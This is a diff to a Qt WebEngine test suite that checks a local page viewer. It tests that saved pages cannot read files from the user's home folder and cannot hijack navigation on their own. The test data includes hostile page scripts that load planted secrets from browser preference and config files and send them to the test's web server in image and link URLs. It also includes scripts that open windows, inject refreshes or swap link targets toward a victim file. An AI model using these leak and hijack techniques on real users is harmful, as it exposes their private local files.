@@ -175,7 +175,7 @@ struct RealWindow {
     }
 
     // Clicks a link as a user does, so that the engine counts it as the user's navigation.
-    void clickLink(const QString& id)
+    void clickLink(const QString& id, Qt::MouseButton button = Qt::LeftButton)
     {
         const QString centre = QStringLiteral("(() => { const e = document.getElementById('%1');"
                                               " if (!e) return null; const r ="
@@ -186,15 +186,26 @@ struct RealWindow {
         QTRY_VERIFY_WITH_TIMEOUT((box = runScript(centre).toList()).size() == 2, loadTimeout);
         QWidget* surface = viewer->view()->focusProxy();
         QVERIFY(surface);
-        // The pointer comes over the link first, as a hand moves before it clicks.
+        // The pointer comes over the link first, as a hand moves before it clicks. The engine names
+        // the link hovered, or the page says it is (a web page's link to a local file goes
+        // unnamed); over a frame, the frame's own link counts.
         const QPoint at(box[0].toInt(), box[1].toInt());
         QSignalSpy hovered(viewer->view()->page(), &QWebEnginePage::linkHovered);
-        // Qt drops a move to where the pointer already is.
-        QTest::mouseMove(surface, at + QPoint(1, 1));
-        QTest::mouseMove(surface, at);
-        QTRY_VERIFY_WITH_TIMEOUT(!hovered.isEmpty() && !hovered.last().first().toString().isEmpty(),
-                                 loadTimeout);
-        QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier, at);
+        const QString over = QStringLiteral("(e => e.matches(':hover') ? 'over' : e.localName)"
+                                            "(document.getElementById('%1'))")
+                                 .arg(id);
+        int moves = 0;
+        const auto overTheLink = [&] {
+            // Qt drops a move to where the pointer already is.
+            QTest::mouseMove(surface, at + QPoint(1, 1));
+            QTest::mouseMove(surface, at);
+            const QString state = runScript(over).toString();
+            return state == "over" ||
+                   (!hovered.isEmpty() && !hovered.last().first().toUrl().isEmpty()) ||
+                   (state == "iframe" && ++moves > 5);
+        };
+        QTRY_VERIFY_WITH_TIMEOUT(overTheLink(), loadTimeout);
+        QTest::mouseClick(surface, button, Qt::NoModifier, at);
     }
 
     // Whether the page shows the text, as the find command sees it.
@@ -372,6 +383,14 @@ private slots:
         row("a local style sheet asking the web", false,
             "<link rel=stylesheet href='HOME/page_files/web.css'>",
             "() => new Promise(ok => setTimeout(() => ok('done'), 500))");
+        // Files of the folder tree used as what they are, their effects read.
+        row("what a script of the folder tree defines", false,
+            "<script>function user_pref(name, value) { window.prefs = value }</script>"
+            "<script src='HOME/.mozilla/prefs.js'></script>",
+            "() => window.prefs");
+        row("what a style sheet of the folder tree gives", false,
+            "<link rel=stylesheet href='HOME/.config/theme.css'>",
+            "() => getComputedStyle(document.documentElement).getPropertyValue('--token')");
     }
     void aSavedPageShowsButNeverReads()
     {
@@ -405,6 +424,9 @@ private slots:
         write(w.path("page_files/leak.css"), "#d { background-image: url(../Pictures/photo.png) }");
         write(w.path("page_files/notes.txt"), "#probe { color: rgb(18, 52, 86) }");
         write(w.path("page_files/secret.js"), secret.toUtf8());
+        write(w.path(".mozilla/prefs.js"),
+              "user_pref('sync.username', '" + secret.toUtf8() + "');");
+        write(w.path(".config/theme.css"), ":root { --token: '" + secret.toUtf8() + "' }");
         write(w.path("page_files/settings.env"), "window.leaked = '" + secret.toUtf8() + "'");
 
         // The page in the home, or at the root naming the home by its path.
@@ -441,7 +463,7 @@ private slots:
                   "function pixelsOf(img) { const c = document.createElement('canvas');"
                   " const g = c.getContext('2d'); g.drawImage(img, 0, 0);"
                   " return g.getImageData(0, 0, 1, 1).data.join(); }"
-                  "function report(value) { window.result = String(value);"
+                  "function report(value) { window.result = 'read: ' + value;"
                   " new Image().src = '%2/load?' + encodeURIComponent(result);"
                   " all.href = '%2/click?' + encodeURIComponent(result); }</script>"
                   "<img id=own src='%1page_files/own.png'><img id=web src='%2/online.png'>%3"
@@ -489,9 +511,10 @@ private slots:
     }
 
     // Only the user's own choice makes a file current: what a page does by itself (scripts,
-    // refreshes, a path given to its history, a link followed from the web) changes neither the
-    // current page nor the title, and the page opened stays shown. VICTIM is a local file the page
-    // would like the commands to act on; WEB a web server of the test's.
+    // refreshes, windows, steps and paths in its history, a link followed from the web, the user's
+    // keys and buttons that follow no link) changes neither the current page nor the title, and the
+    // page opened stays shown. VICTIM is a local file the page would like the commands to act on;
+    // WEB a web server of the test's.
     void onlyTheUserPicksTheCurrentFile_data()
     {
         QTest::addColumn<QString>("markup");
@@ -551,6 +574,35 @@ private slots:
             "<iframe id=l src='frame.htm' style='position:fixed; inset:0; width:100%; height:100%'>"
             "</iframe>",
             "link", "other");
+        row("a link of a web frame that opens a window",
+            "<iframe id=l src='WEB/blank' style='position:fixed; inset:0; width:100%; height:100%'>"
+            "</iframe>",
+            "link", "page");
+        row("a link of a web page that opens a window", "<a id=l href='WEB/blank'>web</a>",
+            "link, link", "web");
+        row("a window a script opens without an opener",
+            "<script>onclick = () => open('VICTIM', '_blank', 'noopener')</script>", "click",
+            "page");
+        row("a blank window the page writes a refresh into",
+            "<script>onclick = () => open('').document.write(\"<meta http-equiv=refresh"
+            " content='0; url=VICTIM'>\")</script>",
+            "click", "page");
+        row("a link the page focused as the user typed, then Enter",
+            "<input id=f autofocus><a id=v href='VICTIM' style='position:absolute; top:1000px'>"
+            "v</a><script>f.oninput = () => v.focus({preventScroll: true})</script>",
+            "type, enter", "page");
+        row("a link whose address changes as Enter goes down",
+            "<a id=l href='other.htm' onkeydown=\"if (event.key == 'Enter') this.href = 'VICTIM'\">"
+            "autre</a>",
+            "enter", "page");
+        row("a right click on a link just after a click",
+            "<a id=l href='VICTIM' style='position:absolute; top:100px'>v</a><script>"
+            "l.onauxclick = () => location = l.href; l.oncontextmenu = e => e.preventDefault()"
+            "</script>",
+            "click, right", "page");
+        row("a web page going back by itself", "<a id=l href='WEB/back'>web</a>", "link", "web");
+        row("a web page the user steps forward to, going back by itself",
+            "<a id=l href='WEB/bounce'>web</a>", "link, back, forward", "web");
     }
     void onlyTheUserPicksTheCurrentFile()
     {
@@ -573,6 +625,14 @@ private slots:
         web.pages["/sandboxed"] = web.pages["/link"];
         web.headers["/sandboxed"] = "Content-Security-Policy: sandbox allow-scripts"
                                     " allow-top-navigation\r\n";
+        // A link over the whole page that opens a window.
+        web.pages["/blank"] =
+            QString::fromUtf8(web.pages["/link"]).replace("<a ", "<a target=_blank ").toUtf8();
+        web.pages["/back"] = "<script>setTimeout(() => history.back(), 500)</script>";
+        // Once the user comes back to it, it goes back by itself.
+        web.pages["/bounce"] = "<script>onpageshow = () => { if (sessionStorage.seen)"
+                               " setTimeout(() => history.back(), 500); sessionStorage.seen = 1 }"
+                               "</script>";
         write(w.path("other.htm"), "<html><body>autre</body></html>");
         write(w.path("frame.htm"),
               link.arg("other.htm").replace("<a ", "<a target=_top ").toUtf8());
@@ -595,8 +655,17 @@ private slots:
                 QTest::keyClick(surface, Qt::Key_Alt);
             } else if (step == "click") {
                 QTest::mouseClick(surface, Qt::LeftButton, Qt::NoModifier, QPoint(30, 30));
+            } else if (step == "type") {
+                QTest::keyClicks(surface, "ab");
+            } else if (step == "right") {
+                w.clickLink("l", Qt::RightButton);
             } else if (step == "enter") {
-                w.runScript("if (window.l) l.focus()");
+                // The user reaches the link, the first in the page, with the Tab key.
+                if (w.runScript("window.l !== undefined").toBool()) {
+                    QTest::keyClick(surface, Qt::Key_Tab);
+                    QTRY_VERIFY_WITH_TIMEOUT(w.runScript("document.activeElement === l").toBool(),
+                                             loadTimeout);
+                }
                 QTest::keyClick(surface, Qt::Key_Return);
             } else if (step == "crash") {
                 ::kill(static_cast<pid_t>(w.viewer->view()->page()->renderProcessPid()), SIGKILL);
